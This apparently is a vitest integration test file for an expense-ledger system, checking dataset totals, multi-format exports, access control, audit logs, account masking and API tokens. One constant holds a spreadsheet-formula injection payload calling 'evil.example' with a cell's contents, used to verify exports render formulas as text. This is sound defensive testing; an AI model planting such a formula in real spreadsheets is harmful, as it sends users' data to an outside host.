import { readFileSync } from 'node:fs';
import type { ApiToken, MadeToken, OpenCatalogue, OpenPage } from '@dingdee/shared/api-token';
import type { BillPage, BillSummary, StageTotals } from '@dingdee/shared/bill';
import { BUDGET_WORDS } from '@dingdee/shared/budget-words';
import type { DataExport, DatasetPage, DatasetRow } from '@dingdee/shared/data-export';
import { DATASET, DATASETS, type DatasetCode } from '@dingdee/shared/dataset';
import { type Amount, fromFen, toFen } from '@dingdee/shared/money';
import { OUTCOME_WORDS } from '@dingdee/shared/receipt-words';
import { strFromU8, unzipSync } from 'fflate';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { beijingDate } from '../../server/src/domain/beijing-time.js';
import * as company from '../sandbox/company.js';
import { commentsSettled, confirmPush, newApprovals, orderSettled, type RunningOffice, startOffice } from './batch.js';
import { approveAll, collect } from './office.js';
import { Person, until } from './person.js';
import { withoutAmount } from './without-amount.js';

/** What is taken out of the ledger is the ledger: whichever way, to the cent, and only for whom it is. */
let run: RunningOffice;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看明细")';
const DAY_MS = 86_400_000;

beforeAll(async () => {
  run = await startOffice({
    settings: { SWEEP_INTERVAL_MS: '0', LOOK_BACK_INTERVAL_MS: '0', CHECK_UP_INTERVAL_MS: '0' },
  });
  newApprovals(run, { count: 20, seed: 61 });
  await collect(run.office);
  await approveAll(run.office);
  await orderSettled(run, await confirmPush(run));
  await commentsSettled(run);
  const [tricked] = newApprovals(run, { count: 20, seed: 62 });
  if (tricked) tricked.title = FORMULA;
  withoutAmount(newApprovals(run, { count: 2, seed: 63 }));
  await collect(run.office);
});
afterAll(() => run?.stack.close());

const admin = () => run.office.admin;
const fenOf = (text: unknown): bigint => (text == null || text === '' ? 0n : toFen(String(text) as Amount));
const pageOf = (dataset: DatasetCode, query = '', person = admin()) =>
  person.get<DatasetPage>(`/api/datasets/${dataset}${query}`);
async function allOf(dataset: DatasetCode, query = ''): Promise<DatasetRow[]> {
  return admin().all<DatasetRow>(`/api/datasets/${dataset}${query}`);
}
async function exported(body: object, person = admin()): Promise<DataExport> {
  const begun = await person.post<DataExport>('/api/exports', { filter: {}, ...body });
  return until(
    () => person.get<DataExport>(`/api/exports/${begun.id}`),
    ({ state }) => state !== 'waiting' && state !== 'running',
  );
}
async function fileOf({ id }: DataExport, person = admin()): Promise<Buffer> {
  const answer = await person.raw('GET', `/api/exports/${id}/file`);
  expect(answer.status).toBe(200);
  return Buffer.from(await answer.arrayBuffer());
}
/** Cells of a CSV file, by its own rules. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end !== ',') rows.push([]);
  }
  return rows.filter((row) => row.length > 1);
}
const shownMoment = (text: unknown) => (text == null ? '' : String(text).slice(0, 19).replace('T', ' '));

it('a dataset counts and sums what the desk does, for every stage and in all, and its pages hold each bill once', async () => {
  const desk = await admin().get<StageTotals>('/api/bills/stages');
  const { totals } = await pageOf('bills');
  const { count, amount, unknown } = desk.collected;
  expect(unknown).toBe(2);
  expect(totals).toEqual({ rows: count, amount, unknown });
  for (const { stage, count: rows, amount: sum, ...rest } of desk.stages)
    expect((await pageOf('bills', `?stage=${stage}`)).totals).toEqual({ rows, amount: sum, ...rest });
  const bills = await admin().all<BillSummary>('/api/bills');
  const items = await allOf('bills');
  expect(items.map(({ billNo }) => billNo).toSorted()).toEqual(bills.map(({ billNo }) => billNo).toSorted());
  expect(fromFen(items.reduce((sum, row) => sum + fenOf(row.amount), 0n))).toBe(amount);
  const searched = `q=${encodeURIComponent(bills[0]?.payee ?? '')}&minAmount=100.00`;
  const { total, sum } = await admin().get<BillPage>(`/api/bills?${searched}`);
  expect((await pageOf('bills', `?${searched}`)).totals).toMatchObject({ rows: total, amount: sum });
});

it('lines add up to their bills, and their total by SQL is that of the pages', async () => {
  const lines = await allOf('lines');
  const { totals } = await pageOf('lines', '?limit=1');
  expect(totals.rows).toBe(lines.length);
  expect(totals.amount).toBe(fromFen(lines.reduce((sum, row) => sum + fenOf(row.amount), 0n)));
  for (const bill of await allOf('bills')) {
    const own = lines.filter(({ billNo }) => billNo === bill.billNo);
    expect(own.map(({ line }) => line)).toEqual(own.map((_, at) => at + 1));
    if (bill.amount !== null) expect(fromFen(own.reduce((sum, row) => sum + fenOf(row.amount), 0n))).toBe(bill.amount);
  }
});

it('a receipt and a purpose have the words that the desk has for them', async () => {
  const outcomes = (await allOf('receipts')).map(({ outcome }) => outcome);
  expect(outcomes).toContain(OUTCOME_WORDS.done);
  expect(Object.values(OUTCOME_WORDS)).toEqual(expect.arrayContaining(outcomes));
  // The meter writes what it counted a moment after the calls.
  const purposes = async () => (await allOf('quota')).map(({ purpose }) => purpose);
  await until(purposes, (counted) => counted.includes(BUDGET_WORDS.comment));
});

describe('one filter as a file', () => {
  const filter = () => ({ to: beijingDate(Date.now() + DAY_MS), minAmount: '0.01' });

  it.each(['bills', 'lines'] as const)(
    '%s: CSV, XLSX, JSON and Parquet carry the same rows, the same sums, and those of the desk',
    async (dataset) => {
      const { columns } = DATASET[dataset];
      const query = new URLSearchParams(filter()).toString();
      const { totals } = await pageOf(dataset, `?${query}`);
      const wanted = await allOf(dataset, `?${query}`);
      expect(wanted.length).toBe(totals.rows);
      const files: Record<string, Buffer> = {};
      for (const format of ['csv', 'xlsx', 'json', 'parquet']) {
        const done = await exported({ dataset, format, filter: filter() });
        expect(done).toMatchObject({ state: 'done', done: totals.rows, total: totals.rows, amount: totals.amount });
        files[format] = await fileOf(done);
        expect(files[format]?.byteLength).toBe(done.bytes);
      }
      const read = JSON.parse(String(files.json)) as { rows: DatasetRow[]; total: unknown };
      expect(read.rows).toEqual(wanted);
      expect(read.total).toEqual({ rows: totals.rows, amount: totals.amount });

      const asText = (row: DatasetRow, empty: string | null = '') =>
        columns.map(({ key, kind }) => {
          const cell = row[key] ?? null;
          if (cell === null) return empty;
          return kind === 'instant' ? shownMoment(cell) : String(cell);
        });
      const csv = files.csv?.toString('utf8') ?? '';
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const [head, ...lines] = cellsOf(csv.slice(1));
      expect(head).toEqual(columns.map(({ name }) => name));
      // The one cell that would be a formula stands behind a sign that makes it a text.
      expect(lines.map((cells) => cells.map((cell) => cell.replace(/^'(?==)/, '')))).toEqual(
        wanted.map((row) => asText(row)),
      );

      const [xlsxHead, ...xlsx] = (await readSheet(files.xlsx ?? Buffer.alloc(0))) as unknown[][];
      expect(xlsxHead).toEqual(columns.map(({ name }) => name));
      const summed = columns.findIndex(({ key }) => key === DATASET[dataset].summed);
      expect(Number(xlsx.pop()?.[summed]).toFixed(2)).toBe(totals.amount);
      const xlsxCell = (cell: unknown, at: number) =>
        cell == null ? null : columns[at]?.kind === 'amount' ? Number(cell).toFixed(2) : String(cell);
      expect(xlsx.map((row) => columns.map((_, at) => xlsxCell(row[at], at)))).toEqual(
        wanted.map((row) => asText(row, null)),
      );

      const bytes = new Uint8Array(files.parquet ?? []).buffer;
      const schema = new Map(parquetMetadata(bytes).schema.map((each) => [each.name, each]));
      expect(schema.get('amount')).toMatchObject({ type: 'INT64', converted_type: 'DECIMAL', precision: 18, scale: 2 });
      const parquet = (await parquetReadObjects({ file: bytes })) as Record<string, unknown>[];
      const parquetCell = (kind: string, cell: unknown): string => {
        if (cell == null) return '';
        if (kind === 'amount') return Number(cell).toFixed(2);
        return cell instanceof Date
          ? new Date(cell.getTime() + 8 * 3_600_000).toISOString().slice(0, 19).replace('T', ' ')
          : String(cell);
      };
      expect(parquet.map((row) => columns.map(({ key, kind }) => parquetCell(kind, row[key])))).toEqual(
        wanted.map((row) => asText(row)),
      );
    },
  );

  it('holds no formula: what an applicant wrote stays text in CSV and in Excel', async () => {
    const asked = { dataset: 'approvals', columns: ['title', 'originator'] };
    const csv = String(await fileOf(await exported({ ...asked, format: 'csv' })));
    const cells = cellsOf(csv.slice(1)).flat();
    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${FORMULA}`);
    const xlsx = await fileOf(await exported({ ...asked, format: 'xlsx' }));
    const rows = (await readSheet(xlsx)) as unknown[][];
    expect(rows.map(([title]) => title)).toContain(FORMULA);
    expect(
      Object.entries(unzipSync(new Uint8Array(xlsx))).filter(([, part]) => String(strFromU8(part)).includes('<f>')),
    ).toEqual([]);
  });

  it('every dataset comes out whole, with the columns that were chosen', async () => {
    for (const dataset of DATASETS) {
      const [column] = DATASET[dataset].columns;
      const key = column?.key ?? '';
      const done = await exported({ dataset, format: 'json', columns: [key] });
      const { rows } = JSON.parse(String(await fileOf(done))) as { rows: DatasetRow[] };
      expect([dataset, done.state, rows.length]).toEqual([dataset, 'done', done.done]);
      expect(rows.length).toBeGreaterThan(0);
      expect(Object.keys(rows[0] ?? {})).toEqual([key]);
    }
  });

  it('is fetched by who asked, by who checks, and by nobody else; each is in the audit log', async () => {
    const { pusher, reviewer } = run.office;
    const done = await exported({ dataset: 'bills', format: 'csv' }, pusher);
    for (const path of [`/api/exports/${done.id}`, `/api/exports/${done.id}/file`])
      expect((await reviewer.refused('GET', path)).code).toBe('export/not-found');
    expect((await reviewer.get<{ items: DataExport[] }>('/api/exports')).items.map(({ id }) => id)).not.toContain(
      done.id,
    );
    expect((await fileOf(done, pusher)).byteLength).toBe(done.bytes);
    expect((await fileOf(done)).byteLength).toBe(done.bytes);
    const log = (await allOf('audit')).filter(({ subjectId }) => subjectId === done.id);
    expect(log.map(({ action }) => action)).toEqual(['export-data', 'fetch-export', 'fetch-export']);
    expect(JSON.parse(String(log[0]?.detail))).toMatchObject({ dataset: 'bills', format: 'csv', rows: done.total });
  });

  it('carries account numbers in full only for who gave a reason, and only that person fetches it', async () => {
    const numbers = company.employees.map(({ bankAccount }) => bankAccount.number);
    const told = (text: string) => numbers.filter((number) => text.includes(number)).length;
    const body = { dataset: 'bills', format: 'csv', columns: ['billNo', 'account'] };
    expect(told(String(await fileOf(await exported(body))))).toBe(0);
    const { pusher } = run.office;
    const full = await exported({ ...body, fullAccounts: '银行要核对收款账号' }, pusher);
    expect(told(String(await fileOf(full, pusher)))).toBeGreaterThan(0);
    expect(full.name).toContain('全号');
    expect((await admin().refused('GET', `/api/exports/${full.id}/file`)).code).toBe('export/not-found');
    const [line] = (await allOf('audit')).filter(({ subjectId }) => subjectId === full.id);
    expect(JSON.parse(String(line?.detail))).toMatchObject({ fullAccounts: true, reason: '银行要核对收款账号' });
  });

  it('is refused for a column or a filter that is none, and 审计 for who may not look into the log', async () => {
    const { pusher } = run.office;
    const start = (body: object, person = admin()) =>
      person.refused('POST', '/api/exports', { filter: {}, format: 'csv', ...body });
    expect((await start({ dataset: 'bills', columns: ['billNo', 'secret'] })).code).toBe('dataset/columns');
    expect((await start({ dataset: 'mappings', filter: { minAmount: '1.00' } })).code).toBe('dataset/filter');
    expect((await start({ dataset: 'bills', filter: { from: '2026-02-30' } })).code).toBe('dataset/filter');
    expect((await start({ dataset: 'audit' }, pusher)).code).toBe('access/refused');
    expect((await pusher.refused('GET', '/api/datasets/audit')).code).toBe('access/refused');
    const [cursor] = [(await pageOf('bills', '?limit=1')).next];
    expect((await admin().refused('GET', `/api/datasets/lines?cursor=${cursor}`)).code).toBe('bill/bad-cursor');
  });
});

describe('a token', () => {
  const until = () => beijingDate(Date.now() + 30 * DAY_MS);
  const made = (body: object) =>
    admin().post<MadeToken>('/api/tokens', {
      name: '集团报表',
      datasets: ['bills'],
      orgs: [],
      until: until(),
      ...body,
    });
  const ask = (path: string, token: string, headers: Record<string, string> = {}) =>
    fetch(`${run.stack.url}/api/open/v1${path}`, { headers: { authorization: `Bearer ${token}`, ...headers } });
  const codeOf = async (answer: Response) => [answer.status, ((await answer.json()) as { code: string }).code];
  async function rowsOf(dataset: DatasetCode, token: string): Promise<DatasetRow[]> {
    const rows: DatasetRow[] = [];
    for (let next: string | null = ''; next !== null; ) {
      const answer = await ask(`/${dataset}?limit=15${next === '' ? '' : `&cursor=${next}`}`, token);
      const page = (await answer.json()) as OpenPage;
      rows.push(...page.items);
      next = page.next;
    }
    return rows;
  }

  it('reads its datasets page by page as the ledger has them, and nothing else; no session stands in for it', async () => {
    const { token } = await made({ datasets: ['bills', 'quota'] });
    expect(await rowsOf('bills', token)).toEqual(await allOf('bills'));
    const { items } = (await (await ask('', token)).json()) as OpenCatalogue;
    expect(items.map(({ dataset }) => dataset)).toEqual(['bills', 'quota']);
    expect(await codeOf(await ask('/lines', token))).toEqual([403, 'token/scope']);
    expect(await codeOf(await ask('/audit', token))).toEqual([403, 'token/scope']);
    expect((await admin().refused('GET', '/api/open/v1/bills')).code).toBe('token/refused');
    expect((await admin().refused('GET', '/api/open/v1')).code).toBe('token/refused');
  });

  it('of one organisation reads no row of another, whatever it asks for', async () => {
    const all = await allOf('bills');
    const orgs = [...new Set(all.flatMap(({ org }) => (org === null ? [] : [String(org)])))];
    expect(orgs.length).toBeGreaterThan(1);
    const [one = '', other = ''] = orgs;
    const { token } = await made({ datasets: ['bills', 'lines', 'approvals', 'receipts', 'mappings'], orgs: [one] });
    expect(await rowsOf('bills', token)).toEqual(all.filter(({ org }) => org === one));
    expect((await rowsOf('lines', token)).every(({ org }) => org === one)).toBe(true);
    expect((await rowsOf('receipts', token)).every(({ org }) => org === one)).toBe(true);
    expect((await rowsOf('mappings', token)).every(({ org }) => org === one || org === null)).toBe(true);
    const own = new Set(all.filter(({ org }) => org === one).map(({ businessId }) => businessId));
    expect((await rowsOf('approvals', token)).every(({ businessId }) => own.has(businessId ?? ''))).toBe(true);
    expect(((await (await ask(`/bills?org=${other}`, token)).json()) as OpenPage).items).toEqual([]);
    const undivided = { name: '审计', datasets: ['audit'], orgs: [one], until: until() };
    expect((await admin().refused('POST', '/api/tokens', undivided)).code).toBe('token/organisation');
  });

  it('answers 304 where nothing changed, and masks accounts unless it was made to tell them', async () => {
    const masked = await made({});
    const first = await ask('/bills?limit=5', masked.token);
    const etag = first.headers.get('etag') ?? '';
    const again = await ask('/bills?limit=5', masked.token, { 'if-none-match': etag });
    expect([again.status, await again.text()]).toEqual([304, '']);
    const numbers = company.employees.map(({ bankAccount }) => bankAccount.number);
    const tells = (text: string) => numbers.some((number) => text.includes(number));
    expect(tells(await first.text())).toBe(false);
    const reason = '银行要按全号核对收款人';
    const full = await made({ fullAccounts: reason });
    for (let again = 0; again < 2; again++)
      expect(tells(await (await ask('/bills?limit=500', full.token)).text())).toBe(true);
    const log = (await allOf('audit')).filter(({ subjectId }) => subjectId === full.id);
    expect(log.map(({ action }) => action)).toEqual(['create-token', 'read-full-accounts']);
    expect(JSON.parse(String(log[0]?.detail))).toMatchObject({ fullAccounts: true, reason });
    const silent = { name: '没有原因', datasets: ['bills'], orgs: [], until: until(), fullAccounts: true };
    expect((await admin().refused('POST', '/api/tokens', silent)).code).toBe('request/invalid');
  });

  it('is shown once and kept as a hash, ends with its day or when it is revoked, and is told when it was used', async () => {
    const { token, ...kept } = await made({});
    await ask('/bills', token);
    const list = await admin().raw('GET', '/api/tokens');
    const text = await list.text();
    expect(text).not.toContain(token);
    const stored = (JSON.parse(text) as { items: ApiToken[] }).items.find(({ id }) => id === kept.id);
    expect(stored).toMatchObject({ tail: token.slice(-4), state: 'valid', lastUsedFrom: expect.any(String) });
    if (run.stack.databaseUrl.startsWith('sqlite:'))
      for (const end of ['', '-wal'])
        expect(readFileSync(`${run.stack.databaseUrl.slice(7)}${end}`).includes(token)).toBe(false);
    expect((await admin().post<ApiToken>(`/api/tokens/${kept.id}/revoke`)).state).toBe('revoked');
    expect(await codeOf(await ask('/bills', token))).toEqual([401, 'token/refused']);
    expect(await codeOf(await ask('/bills', `dd_${'A'.repeat(43)}`))).toEqual([401, 'token/refused']);
    const late = { name: '太久', datasets: ['bills'], orgs: [] };
    for (const day of [beijingDate(Date.now() - DAY_MS), beijingDate(Date.now() + 400 * DAY_MS), '2026-02-30'])
      expect((await admin().refused('POST', '/api/tokens', { ...late, until: day })).code).toBe('token/until');
    expect((await admin().refused('POST', '/api/tokens/nothing/revoke')).code).toBe('token/not-found');
  });

  it('is asked no more than sixty times a minute', async () => {
    const { token } = await made({});
    const answers = await Promise.all(Array.from({ length: 130 }, () => ask('', token)));
    const statuses = new Set(answers.map(({ status }) => status));
    expect([...statuses].toSorted()).toEqual([200, 429]);
  });
});

it('a viewer looks but takes nothing out', async () => {
  const viewer = company.employees.find(
    ({ userid, admin: boss }) => !boss && ![run.office.reviewer.userId, run.office.pusher.userId].includes(userid),
  );
  await admin().put(`/api/roles/${viewer?.userid}`, { roles: ['viewer'] });
  const looking = await Person.login(run.stack, viewer?.userid ?? '');
  expect((await pageOf('bills', '', looking)).totals).toEqual((await pageOf('bills')).totals);
  const refused = await looking.refused('POST', '/api/exports', { dataset: 'bills', format: 'csv', filter: {} });
  expect(refused.code).toBe('access/refused');
});

it('a finished export is not stopped any more, and stopping asks for one that is there', async () => {
  const done = await exported({ dataset: 'quota', format: 'csv' });
  expect((await admin().post<DataExport>(`/api/exports/${done.id}/stop`)).state).toBe('done');
  expect((await admin().refused('POST', '/api/exports/nothing/stop')).code).toBe('export/not-found');
});
